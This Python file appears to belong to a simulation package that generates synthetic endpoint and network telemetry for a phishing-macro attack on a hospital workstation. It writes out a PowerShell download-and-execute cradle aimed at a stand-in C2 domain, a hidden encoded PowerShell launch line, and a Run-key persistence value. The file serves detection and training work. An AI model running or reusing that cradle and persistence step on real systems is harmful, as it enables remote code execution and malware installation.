"""A document with a macro: Word starts PowerShell, which fetches a program and keeps it."""

from base64 import b64encode

from khumkan_samples.attacks.stage import Act, Scenario, Stage
from khumkan_samples.facts.fingerprints import sha256_of
from khumkan_samples.facts.processes import (
    Process,
    connected,
    created,
    desktop,
    resolved,
    value_set,
    wrote,
)
from khumkan_samples.facts.sensor import Wire, looked_up, shook_hands
from khumkan_samples.streams.desktops import OFFICE
from khumkan_samples.streams.server_programs import POWERSHELL

DOCUMENT = "แจ้งปรับเงินเดือน_พ.ย.2569.docm"
ORDER = "IEX (New-Object Net.WebClient).DownloadString('https://{}/u.ps1')"


def play(stage: Stage) -> Act:
    """One click in the office; a minute later the program sits in the user's profile."""
    dice, actor = stage.dice, stage.actor
    person, desk, account = stage.victim("ADM", "FIN", "REG", "PHAR")
    word = OFFICE + "WINWORD.EXE"
    path = f"C:\\Users\\{person.login}\\Downloads\\{DOCUMENT}"
    writer = Process(desk, account, word, f'"{word}" /n "{path}" /o ""', "macro")
    encoded = b64encode(ORDER.format(actor.c2_domain).encode("utf-16-le")).decode()
    command = f"powershell.exe -nop -w hidden -ep bypass -enc {encoded}"
    shell = Process(desk, account, POWERSHELL, command, "macro")
    program = f"C:\\Users\\{person.login}\\AppData\\Local\\Temp\\{actor.secret[:7]}.exe"
    loader = Process(desk, account, program, f'"{program}"', "macro")
    act = Act(victims={"host": desk.name, "user": account.name})
    sha256 = sha256_of(loader.name).lower()
    act.indicators |= {"domain": actor.c2_domain, "ip": actor.c2_ip, "sha256": sha256}
    key = f"HKU\\{account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneUpdate"
    wire = Wire(desk.ip, stage.port(), actor.c2_ip, 443)
    asked = Wire(desk.ip, stage.port(), stage.hospital.servers["dc"].ip, 53, "UDP")
    act.entries += [
        wrote(stage.after(0), desktop(desk, account), path),
        created(stage.after(8), writer, desktop(desk, account)),
        created(stage.after(19), shell, writer),
        resolved(stage.after(21), shell, actor.c2_domain, actor.c2_ip),
        *looked_up(stage.after(20.9), dice, asked, actor.c2_domain, (actor.c2_ip,)),
        connected(stage.after(21.2), shell, (actor.c2_ip, 443), wire.source_port),
        shook_hands(
            stage.after(21.3), dice, wire, actor.c2_domain, dice.text("0123456789abcdef", 32)
        ),
        wrote(stage.after(36), shell, program),
        created(stage.after(41), loader, shell),
        value_set(stage.after(44), loader, key, program),
    ]
    return act


SCENARIO = Scenario("phishing-macro", ("T1566.001", "T1204.002", "T1059.001", "T1547.001"), play)
